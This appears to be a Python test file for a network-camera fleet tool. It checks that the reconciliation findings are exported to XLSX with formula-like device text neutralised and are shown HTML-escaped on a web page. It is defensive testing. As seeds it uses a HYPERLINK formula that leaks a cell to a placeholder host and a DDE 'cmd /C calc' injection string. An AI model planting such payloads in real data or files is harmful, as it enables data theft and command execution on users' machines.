"""The reconciliation over the API (JSON and XLSX) and as a page: the same findings, device text that would be a
formula neutralised in the workbook and escaped on the page, headings in the language asked for (both engines)."""

from __future__ import annotations

import io
from datetime import UTC, datetime
from typing import Any

import httpx
from openpyxl import load_workbook

from fleet.crypto import CredentialCipher
from fleet.db import Database
from fleet.discovery import service as discovery
from fleet.users.models import Role
from tests.api import web
from tests.conftest import bearer
from tests.fleet.discovery.network import AXIS, HIKVISION, register_street
from tests.fleet.discovery.test_report import Fdb

HOSTILE_PORT = '=HYPERLINK("http://x.test/?"&A1,"<b>port</b>")'


async def _seed(database: Database, cipher: CredentialCipher) -> None:
    ids = await register_street(database, cipher)
    table = [Fdb(AXIS[1], 1, "ge-0/0/1"), Fdb(HIKVISION[9], 3, "ge-0/0/3"), Fdb(HIKVISION[5], 5, HOSTILE_PORT)]
    async with database.unit_of_work() as session:
        await discovery.record_tables(session, ids["SW-STRAAT"], table, [], now=datetime.now(UTC))
        await discovery.record_problem(session, ids["RT-STRAAT"], "@SUM(1+1)*cmd|' /C calc'!A0", now=datetime.now(UTC))


def _sheets(body: bytes) -> dict[str, list[tuple[Any, ...]]]:
    book = load_workbook(io.BytesIO(body))
    return {sheet.title: list(sheet.iter_rows(values_only=True)) for sheet in book.worksheets}


async def test_the_api_gives_the_findings_as_json_and_a_safe_workbook(
    client: httpx.AsyncClient, tokens: dict[Role, str], database: Database, cipher: CredentialCipher
) -> None:
    await _seed(database, cipher)
    viewer = bearer(tokens[Role.VIEWER])
    found = (await client.get("/api/v1/reconciliation", headers=viewer)).json()
    assert [(u["mac"], u["port"], u["risk_level"]) for u in found["unregistered"]] == [
        (HIKVISION[5], HOSTILE_PORT, "high")
    ]
    assert [m["name"] for m in found["missing"]] == ["CAM-2", "CAM-4"]
    assert [(s["name"], s["found_mac"]) for s in found["swapped"]] == [("CAM-3", HIKVISION[9])]
    assert found["moved"] == []
    answer = await client.get("/api/v1/reconciliation/export", params={"lang": "nl"}, headers=viewer)
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("application/vnd.openxml")
    sheets = _sheets(answer.content)
    assert list(sheets) == ["Niet geregistreerd", "Niet gevonden", "Verplaatst", "Verwisseld", "Gelezen tabellen"]
    header, row = sheets["Niet geregistreerd"]
    assert header[:4] == ("MAC-adres", "IP-adres", "Switch", "Poort")
    assert row[3] == "'" + HOSTILE_PORT and row[8] == "hoog"
    problem = next(r for r in sheets["Gelezen tabellen"][1:] if r[0] == "RT-STRAAT")[5]
    assert problem.startswith("'@SUM")
    assert [r[0] for r in sheets["Niet gevonden"][1:]] == ["CAM-2", "CAM-4"]
    assert (await client.get("/api/v1/reconciliation/export", params={"lang": "xx"}, headers=viewer)).status_code == 422


async def test_the_page_shows_the_findings_escaped(
    pages: httpx.AsyncClient, database: Database, cipher: CredentialCipher
) -> None:
    await _seed(database, cipher)
    await web.login(pages, "viewer")
    page = await pages.get("/reconciliation")
    assert page.status_code == 200
    assert HIKVISION[5] in page.text and "&lt;b&gt;port&lt;/b&gt;" in page.text and "<b>port</b>" not in page.text
    assert "CAM-3" in page.text and HIKVISION[9] in page.text
    download = await pages.get("/reconciliation/export")
    assert download.status_code == 200 and "Niet geregistreerd" in _sheets(download.content)
